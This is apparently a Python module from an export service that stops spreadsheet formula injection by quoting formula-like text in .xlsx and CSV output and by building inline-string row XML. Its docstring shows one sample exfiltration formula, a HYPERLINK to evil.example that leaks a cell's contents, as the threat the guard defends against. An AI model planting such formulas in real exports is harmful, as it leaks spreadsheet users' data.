"""Spreadsheet cells that are never formulas: the one guard every export writes through.

A text that starts with = + - @ (or a tab or carriage return, which some programs skip before
reading one of those) would be run by Excel or LibreOffice as a formula: a task titled
`=HYPERLINK("http://evil.example/?leak="&B2,"x")` would leak the sheet. Every text from the
database goes through these helpers: in .xlsx (XlsxWriter, exports/spreadsheets.py and
exports/tables.py) it is stored as a string cell, with Excel's "quote prefix" when it looks like
a formula (shown as typed, and kept as text if someone edits it); in CSV it gets a leading
apostrophe, the convention spreadsheet programs read as "this is text".
"""

from __future__ import annotations

import math
import re
from typing import Any, Protocol

from xlsxwriter.format import Format
from xlsxwriter.utility import _preserve_whitespace, _utf16_len, _utf16_truncate
from xlsxwriter.worksheet import Worksheet
from xlsxwriter.xmlwriter import XMLwriter, re_control_chars_1

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The properties of the format `write_text` is given (`workbook.add_format(QUOTED)`).
QUOTED = {"quote_prefix": True}


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def write_text(ws: Worksheet, row: int, col: int, value: str, quoted: Format) -> None:
    """`value` as a string cell, never a formula; one that looks like a formula carries the
    quote prefix (`quoted`, the workbook's format made of QUOTED)."""
    ws.write_string(row, col, value, quoted if looks_like_formula(value) else None)


def csv_text(value: Any) -> Any:
    """`value` for a CSV cell: a text that looks like a formula gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value


# ---- a row of cells as one piece of XML

# XlsxWriter's own tests for a string that needs more than writing out (xmlwriter.py, utility.py):
# XML's special characters, control characters and the two non-characters XML forbids (U+FFFE,
# U+FFFF), its _xHHHH_ escapes (looked for only where "_x" is: a search for either pattern at
# once costs twice as much), edge whitespace.
_SPECIAL = re.compile(r"[&<>\x00-\x08\x0b-\x1f\ufffe\uffff]")
# Excel's longest text in a cell, in UTF-16 units (XlsxWriter cuts a longer one there).
MAX_TEXT = 32767


class Formats(Protocol):
    def index(self, kind: str) -> int:
        """The number in the workbook of the format of `kind` ("quoted": made of QUOTED)."""
        ...


def inline_text(ref: str, value: str, formats: Formats) -> str:
    """A string cell at `ref` as XlsxWriter writes one in constant memory (an inline string),
    never a formula: one that looks like a formula carries the quote prefix's format."""
    return f'<c r="{ref}"{inline_text_tail(value, formats)}'


def inline_text_tail(value: str, formats: Formats) -> str:
    """`inline_text` after the cell's reference: the same for the same text wherever it is,
    so that a writer may keep it for the next cell with that text."""
    style = f' s="{formats.index("quoted")}"' if value.startswith(FORMULA_STARTS) else ""
    # A text too long for a cell is cut as XlsxWriter cuts it: Excel calls the file damaged.
    if len(value) > MAX_TEXT // 2 and _utf16_len(value) > MAX_TEXT:
        value = _utf16_truncate(value, MAX_TEXT)
    space = ""
    if (
        _SPECIAL.search(value)
        or ("_x" in value and re_control_chars_1.search(value))
        or value[:1].isspace()
        or value[-1:].isspace()  # (\s$ of _preserve_whitespace: before a last \n, a \n too)
    ):
        value = XMLwriter._escape_control_characters(value)
        if _preserve_whitespace(value):
            space = ' xml:space="preserve"'
        value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'{style} t="inlineStr"><is><t{space}>{value}</t></is></c>'


def number(ref: str, value: float, xf: int | None) -> str:
    """A number cell at `ref` (in a format, e.g. a date's), as XlsxWriter writes one."""
    if not math.isfinite(value):  # XlsxWriter refuses them too: Excel has no such number
        raise ValueError(f"{ref}: {value} is not a number a spreadsheet can hold")
    style = "" if xf is None else f' s="{xf}"'
    return f'<c r="{ref}"{style}><v>{value:.16G}</v></c>'


class RowSheet(Worksheet):
    """A constant-memory worksheet that also takes a whole row of cells as XML (`write_xml_row`,
    the cells made by `inline_text` and `number`). XlsxWriter's write_string and write_number
    store each cell, then write it out with a regex and an f-string per attribute: ~10 µs a
    cell, 18 s of the 2.3 million cells of the national task list (issue 11)."""

    def flush(self, row: int) -> None:
        """Write out the cells the other write_ methods hold for rows before `row`, as they
        would when a later row is written (the formats they use are numbered then)."""
        if row > self.previous_row:
            self._write_single_row(row)

    def write_xml_row(self, row: int, first_col: int, last_col: int, cells: str) -> None:
        """Row `row` (from 0), its cells from `first_col` to `last_col` in `cells`."""
        if self._check_dimensions(row, first_col) or self._check_dimensions(row, last_col):
            raise ValueError(f"row {row} is written already or out of the sheet")
        self.flush(row)
        self.fh.write(f'<row r="{row + 1}">{cells}</row>')
